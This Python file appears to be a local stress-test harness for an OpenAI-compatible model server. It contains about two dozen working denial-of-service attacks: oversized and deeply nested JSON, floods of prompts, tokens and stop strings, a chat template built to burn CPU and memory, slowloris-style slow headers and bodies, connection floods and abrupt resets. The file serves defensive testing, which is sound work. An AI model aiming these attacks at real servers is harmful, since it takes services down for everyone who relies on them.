"""What one client can do to a server. `python attacks.py NAME PORT` does it until it is ended; canary.py asks
meanwhile what others would see of it."""

import itertools
import json
import os
import socket
import struct
import sys
import threading
import time

MODEL = "tiny"
HOST = "127.0.0.1"
_CHAT, _TEXT = "/v1/chat/completions", "/v1/completions"
# A chat template whose time a message chooses.
EATER = ("{% for message in messages %}{% if message['content'] == 'time' %}{% for i in range(99999) %}"
         "{% for j in range(99999) %}{% endfor %}{% endfor %}{% elif message['content'] == 'memory' %}"
         "{{ 'a' * (message['count'] * 10**9) }}{% elif message['content'] == 'text' %}{% for i in range(99999) %}"
         "{{ message['content'] * 99999 }}{% endfor %}{% endif %}{{ message['content'] }}{% endfor %}")


def connect(port):
    return socket.create_connection((HOST, port), timeout=600)


def head(path, length=None, *lines):
    lines = [f"POST {path} HTTP/1.1", "Host: localhost", *lines]
    lines += [] if length is None else [f"Content-Length: {length}"]
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def read_answer(connection):
    """All that comes until the server closes."""
    data = b""
    while part := connection.recv(1 << 16):
        data += part
    return data


def post(port, path, body):
    """(status, what is answered)"""
    body = body if isinstance(body, bytes) else json.dumps(body).encode()
    with connect(port) as connection:
        try:
            connection.sendall(head(path, len(body), "Connection: close") + body)
        except OSError:
            pass  # it has said no before all was sent
        answer = read_answer(connection)
    return int(answer.split(b" ", 2)[1]), answer.partition(b"\r\n\r\n")[2]


def asked(**more):
    return {"model": MODEL, "max_tokens": 4, **more}


def _repeat(count, function):
    """In so many threads, for ever. What the server refuses, or closes, is no news."""
    def run(number):
        while True:
            try:
                function(number)
            except (OSError, ValueError, IndexError):
                time.sleep(0.01)

    for number in range(count):
        threading.Thread(target=run, args=(number,), daemon=True).start()
    threading.Event().wait()


def _ask(count, request):
    """Reads the beginning of the answer."""
    def run(number):
        with connect(PORT) as connection:
            connection.sendall(request)
            connection.recv(1 << 16)

    _repeat(count, run)


def _posts(count, path, body):
    """The body, or what is made of a number, again and again."""
    data = body if callable(body) else lambda number: body
    _repeat(count, lambda number: post(PORT, path, data(number)))


def twice():
    """Fields, of which the last is given twice."""
    fields = ",".join(f'"k{i}":0' for i in range(1_200_000))
    _posts(2, _TEXT, ("{" + fields + ',"k1199999":0}').encode())


def unknown():
    """Fields that nobody knows, with long names."""
    _posts(2, _TEXT, json.dumps({f"{i}" * 9: i for i in range(200_000)}).encode())


def nested():
    _posts(4, _TEXT, b'{"prompt":' + b"[" * (8 << 20))


def objects():
    _posts(4, _TEXT, b'{"prompt":[' + b"{}," * (5 << 20) + b"{}]}")


def text():
    _posts(4, _TEXT, asked(prompt="hello world " * 1_300_000))


def texts():
    """That are as long as they may be."""
    _posts(4, _TEXT, asked(prompt=["hello world " * 42] * 128))


def word():
    """Without a space in it."""
    _posts(4, _CHAT, asked(messages=[{"role": "user", "content": "a" * 6_000}]))


def chat():
    _posts(4, _CHAT, asked(messages=[{"role": "user", "content": "hello world " * 800_000}]))


def tokens():
    _posts(4, _TEXT, asked(prompt=[1] * 5_000_000))


def stop_tokens():
    _posts(4, _TEXT, asked(prompt=["a"] * 128, stop_token_ids=[1] * 5_000_000))


def stops():
    _posts(4, _TEXT, asked(prompt="a", stop=["a" * 900_000] * 16))


def messages():
    _posts(4, _CHAT, asked(messages=[{"role": "user", "content": "a"}] * 400_000))


def bad_messages():
    _posts(4, _CHAT, asked(messages=[{}] * 4_000_000))


def halves():
    """Of surrogate pairs, in a field that a template may show."""
    _posts(4, _CHAT, asked(messages=[{"role": "user", "content": "a", "more": ["\ud800"] * 1_500_000}]))


def template_time():
    _posts(8, _CHAT, asked(messages=[{"role": "user", "content": "time"}]))


def template_memory():
    _posts(8, _CHAT, asked(messages=[{"role": "user", "content": "memory", "count": 9}]))


def template_text():
    _posts(8, _CHAT, asked(messages=[{"role": "user", "content": "text"}]))


def template_left():
    """By clients that do not wait."""
    def leave(number):
        body = json.dumps(asked(messages=[{"role": "user", "content": "time"}])).encode()
        with connect(PORT) as connection:
            connection.sendall(head(_CHAT, len(body)) + body)
            time.sleep(0.05)

    _repeat(8, leave)


def _drip(opening, count=300):
    """Connections that get a byte at times."""
    def run(number):
        with connect(PORT) as connection:
            connection.sendall(opening)
            while True:
                time.sleep(0.5)
                connection.sendall(b"a")

    _repeat(count, run)


def slow_heads():
    _drip(b"GET /health HTTP/1.1\r\nHost: localhost\r\na: ")


def slow_bodies():
    _drip(head(_TEXT, 1_000_000))


def held_bodies():
    """Large, and without their last byte."""
    body = json.dumps(asked(prompt="a" * (15 << 20))).encode()

    def run(number):
        with connect(PORT) as connection:
            connection.sendall(head(_TEXT, len(body)) + body[:-1])
            time.sleep(60)

    _repeat(30, run)


def connections():
    """As many as may be, again and again."""
    while True:
        held = []
        try:
            for _ in range(900):
                held.append(connect(PORT))
        except OSError:
            pass
        time.sleep(0.2)
        for one in held:
            one.close()


def chunks():
    """Of one byte each."""
    body = b"1\r\na\r\n" * 200_000

    def run(number):
        with connect(PORT) as connection:
            connection.sendall(head(_TEXT, None, "Transfer-Encoding: chunked") + body)
            connection.recv(1)

    _repeat(16, run)


def heads():
    """Of thousands of fields."""
    fields = "".join(f"{i}:\r\n" for i in range(4_000))[:30_000].rpartition("\r\n")[0]
    _ask(8, f"GET /health HTTP/1.1\r\nHost: localhost\r\n{fields}\r\n\r\n".encode())


def pipelines():
    _ask(2, b"GET /v1/models HTTP/1.1\r\nHost: localhost\r\n\r\n" * 10_000)


def unread():
    """Streams that nobody reads."""
    body = json.dumps(asked(prompt="a", max_tokens=400, stream=True, ignore_eos=True)).encode()
    held = []

    def run(number):
        connection = connect(PORT)
        held.append(connection)
        connection.sendall(head(_TEXT, len(body)) + body)
        time.sleep(0.5)

    _repeat(4, run)


def resets():
    """Clients that go in the middle of what they say."""
    request = head(_TEXT, 500_000) + b"a" * 300_000

    def run(number):
        with connect(PORT) as connection:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            connection.sendall(request[:next(sizes) % len(request)])
        time.sleep(0.05)

    sizes = itertools.count(1, 7919)
    _repeat(8, run)


ATTACKS = {one.__name__: one for one in (
    twice, unknown, nested, objects, text, texts, word, chat, tokens, stop_tokens, stops, messages, bad_messages,
    halves, template_time, template_memory, template_text, template_left, slow_heads, slow_bodies, held_bodies,
    connections, chunks, heads, pipelines, unread, resets)}

if __name__ == "__main__":
    os.nice(10)  # an attacker has a machine of his own
    PORT = int(sys.argv[2])
    ATTACKS[sys.argv[1]]()
